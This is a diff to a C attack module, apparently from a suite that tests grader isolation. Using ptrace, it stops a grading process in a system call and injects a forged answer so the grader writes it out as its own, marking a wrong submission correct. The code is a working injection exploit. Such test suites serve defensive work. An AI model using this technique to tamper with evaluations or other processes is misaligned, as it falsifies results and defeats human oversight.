@@ -1,11 +1,11 @@
 // SPDX-License-Identifier: MIT
 /*
  * Goal:  a wrong answer is marked correct.
- * Means: ptrace(2). The grader waits in a read(2) for the student's output. It is stopped there, a
+ * Means: ptrace(2). The grader waits in a system call for the student's output. It is stopped there, a
  *        forged answer is put on its stack, and its registers are set so that the same instruction
  *        makes a write(2) of it. Then all is put back: the grader itself has spoken.
  *
- *     grader: read(pipe) ... stopped: write(1, forged) ... read(pipe), as if nothing had been
+ *     grader: poll(pipe) ... stopped: write(1, forged) ... poll(pipe), as if nothing had been
  */
 #include "attacks/attack.h"
 #include "attacks/result-forging/frames.h"
@@ -16,10 +16,12 @@
 #include <sys/syscall.h>
 #include <sys/user.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 #define BELOW 4096 /* bytes under the stack pointer: beyond the red zone and any signal frame */
 #define SYSCALL_SIZE 2
+#define TRIES 200 /* one each millisecond */
 
 static int poke(pid_t pid, unsigned long at, const char *text, size_t n)
 {
@@ -56,21 +58,38 @@ static int speak(pid_t pid, const char *text, size_t n)
 	return ptrace(PTRACE_SETREGS, pid, 0, &was) || (long)regs.rax != (long)n ? -1 : 0;
 }
 
+/* Stop the grader where it waits in a system call; it may not have got there yet. */
+static int stop(pid_t pid)
+{
+	const struct timespec tick = { .tv_nsec = 1000000 };
+	struct user_regs_struct regs;
+	int status;
+
+	for (int i = 0; i < TRIES; i++, nanosleep(&tick, NULL)) {
+		if (ptrace(PTRACE_ATTACH, pid, 0, 0) || waitpid(pid, &status, __WALL) != pid ||
+		    ptrace(PTRACE_GETREGS, pid, 0, &regs))
+			return -1;
+		if ((long)regs.orig_rax >= 0)
+			return 0;
+		ptrace(PTRACE_DETACH, pid, 0, 0);
+	}
+	errno = ETIMEDOUT;
+	return -1;
+}
+
 static enum claim run(const struct brief *b)
 {
 	char text[FRAMES_SIZE] = "";
 	size_t n = forge_frames(text, 1, 4);
-	int status;
+	int spoken;
 
 	submit("0");
 	attempting(b);
-	if (ptrace(PTRACE_ATTACH, b->worker, 0, 0))
+	if (stop(b->worker))
 		return denied("PTRACE_ATTACH");
-	if (waitpid(b->worker, &status, __WALL) != b->worker)
-		return denied("waitpid");
-	status = speak(b->worker, text, n);
+	spoken = speak(b->worker, text, n);
 	ptrace(PTRACE_DETACH, b->worker, 0, 0);
-	return status ? denied("ptrace") : CLAIM_DONE;
+	return spoken ? denied("ptrace") : CLAIM_DONE;
 }
 
 const struct attack attack = {
